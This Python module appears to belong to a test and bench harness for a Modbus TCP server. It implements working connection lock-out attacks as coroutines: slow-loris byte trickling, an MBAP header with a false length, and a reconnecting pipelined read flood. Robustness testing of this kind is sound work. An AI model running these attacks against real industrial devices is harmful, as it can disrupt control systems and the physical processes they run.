"""Modbus TCP lock-out attacks: the frames, and each attack as a coroutine a
test runs once and the bench runs for a stretch of time."""

from __future__ import annotations

import asyncio
import struct
import time
from collections.abc import Callable

from .net import closed_by_server, connect


def read_frame(tid: int, unit: int = 101, address: int = 0, count: int = 2, fc: int = 3) -> bytes:
    """One request ADU (MBAP header and PDU): read ``count`` registers."""
    return struct.pack(">HHHBBHH", tid, 0, 6, unit, fc, address, count)


def lying_header(tid: int, length: int = 254, unit: int = 101) -> bytes:
    """An MBAP header announcing ``length`` bytes, and the 6 a read needs: a
    server waiting for the rest holds the connection until a timeout ends it."""
    return struct.pack(">HHHB", tid, 0, length, unit) + b"\x03\x00\x00\x00\x02\x00"


def pipelined(n: int, unit: int = 101) -> bytes:
    """``n`` reads in one write (1 or 2 registers each, transaction ids 0..n-1)."""
    return b"".join(read_frame(tid & 0xFFFF, unit, count=1 + tid % 2) for tid in range(n))


async def slow_loris(
    port: int, host: str, frame: bytes, every_s: float, limit_s: float
) -> tuple[bool, float]:
    """One byte of ``frame`` every ``every_s`` (the old server reset its idle
    timer on each): (closed by the server, seconds until it was, or until
    ``limit_s`` or the frame ran out)."""
    reader, writer = await connect(port, host)
    started = time.monotonic()
    closed = False
    try:
        for byte in frame:
            writer.write(bytes([byte]))
            await writer.drain()
            if await closed_by_server(reader, every_s):
                closed = True
                break
            if time.monotonic() - started > limit_s:
                break
    except ConnectionError:
        closed = True
    finally:
        writer.close()
    return closed, time.monotonic() - started


async def lying_mbap(port: int, host: str, header: bytes, timeout: float) -> bool:
    """Send ``header`` (see ``lying_header``) and go silent: whether the server
    closed the connection within ``timeout``."""
    reader, writer = await connect(port, host)
    try:
        writer.write(header)
        await writer.drain()
        return await closed_by_server(reader, timeout)
    except ConnectionError:
        return True
    finally:
        writer.close()


async def read_answers(
    reader: asyncio.StreamReader, n: int, timeout: float
) -> list[tuple[int, bytes]]:
    """The next ``n`` answers, (transaction id, PDU), in the order they came."""
    answers = []
    for _ in range(n):
        head = await asyncio.wait_for(reader.readexactly(7), timeout)
        tid, _, length, _ = struct.unpack(">HHHB", head)
        answers.append((tid, await asyncio.wait_for(reader.readexactly(length - 1), timeout)))
    return answers


async def pipelined_flood(
    port: int, host: str, burst: int, until: Callable[[], bool], timeout: float = 10.0
) -> tuple[int, int]:
    """Bursts of ``burst`` pipelined reads on one connection, each read back
    before the next, until ``until()``: (requests answered, connections the
    server closed; a closed one is opened again)."""
    answered = closed = 0
    frames = pipelined(burst)
    reader, writer = await connect(port, host)
    try:
        while not until():
            try:
                writer.write(frames)
                await writer.drain()
                answered += len(await read_answers(reader, burst, timeout))
            except (ConnectionError, asyncio.IncompleteReadError, TimeoutError):
                closed += 1
                writer.close()
                reader, writer = await connect(port, host)
    finally:
        writer.close()
    return answered, closed
